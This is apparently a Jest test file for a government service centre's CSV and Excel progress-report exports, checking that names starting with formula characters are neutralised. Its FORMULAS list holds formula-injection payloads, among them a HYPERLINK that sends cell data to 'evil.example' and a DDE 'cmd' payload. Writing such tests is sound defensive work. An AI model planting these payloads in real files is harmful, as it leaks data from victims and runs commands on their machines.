import ExcelJS from 'exceljs';
import { type ProgressCounts } from '../../../../libs/domain/src';
import { progressLine, type ProgressReport } from '../../../../libs/reports/src';
import { csvText, progressCsv } from './progress.report';
import { progressXlsx } from './progress.xlsx';

const counts = (resolved: number): ProgressCounts => ({
  carriedOver: 0,
  newOnline: 0,
  newInPerson: resolved,
  newPostal: 0,
  total: resolved,
  early: 0,
  onTime: resolved,
  late: 0,
  lateWithApology: 0,
  resolved,
  withinDeadline: 0,
  overdue: 0,
  inProgress: 0,
  pausedSupplement: 0,
  pausedPayment: 0,
  paused: 0,
  withdrawn: 0,
  refused: 0,
  refusedLate: 0,
  repeatedSupplements: 0,
  lateFor766: 0,
});

/** Names an admin or a partner's catalog could give procedures and officers, as an attacker would. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
];

const report = (names: string[]): ProgressReport => ({
  period: { from: '2026-01-01', to: '2026-03-31' },
  unit: { code: '000.00.20.H36', name: 'Trung tâm Phục vụ hành chính công' },
  groupBy: 'procedure',
  formula: { code: 'RESOLVED', label: 'đã giải quyết' },
  rows: names.map((name, i) => progressLine(`P${i}`, name, counts(i + 1), 'RESOLVED')),
  total: progressLine('', 'Tổng cộng', counts(names.length), 'RESOLVED'),
  source: 'facts',
  asOf: '2026-04-01T00:00:00.000Z',
});

/** The cells of a CSV line (quotes as RFC 4180 writes them). */
const cells = (line: string): string[] =>
  [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)]
    .filter((m) => m.index < line.length || m[1] !== '')
    .map((m) => (m[1].startsWith('"') ? m[1].slice(1, -1).replace(/""/g, '"') : m[1]));

describe('progress exports against formula injection', () => {
  it('writes a text cell that a spreadsheet would run as a formula with a leading apostrophe', () => {
    for (const formula of FORMULAS) {
      expect(csvText(formula)).toBe(`'${formula}`);
    }
    expect(csvText('Cấp giấy phép xây dựng')).toBe('Cấp giấy phép xây dựng');
    expect(csvText('Đăng ký hoạt động tín ngưỡng = lễ hội')).toBe('Đăng ký hoạt động tín ngưỡng = lễ hội');
  });

  it('lets no row name of the CSV start a cell with a formula character, and keeps the numbers numbers', () => {
    const csv = progressCsv(report(FORMULAS));
    const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
    const names = lines.slice(1, 1 + FORMULAS.length).map((line) => cells(line)[1]);
    expect(names).toEqual(FORMULAS.map((f) => `'${f}`));
    for (const line of lines.slice(1, -1)) {
      for (const cell of cells(line)) {
        expect({ cell, formula: /^[=+\-@\t\r]/.test(cell) }).toEqual({ cell, formula: false });
      }
    }
    expect(cells(lines[1]).slice(2, 4)).toEqual(['1', '0']);
  });

  it('stores the names in the workbook as text, never as formulas', async () => {
    const book = new ExcelJS.Workbook();
    const file = await progressXlsx(report(FORMULAS));
    await book.xlsx.load(file.buffer.slice(file.byteOffset, file.byteOffset + file.byteLength) as ArrayBuffer);
    const sheet = book.worksheets[0];
    const names: unknown[] = [];
    sheet.eachRow((row) => {
      row.eachCell((cell) => {
        expect({ cell: cell.address, type: cell.type }).not.toEqual({
          cell: cell.address,
          type: ExcelJS.ValueType.Formula,
        });
      });
      names.push(row.getCell(2).value);
    });
    // (XML keeps no carriage return: the last name comes back with a newline, as text all the same.)
    expect(names).toEqual(expect.arrayContaining([...FORMULAS.slice(0, -1), '\n=1+1']));
  });
});
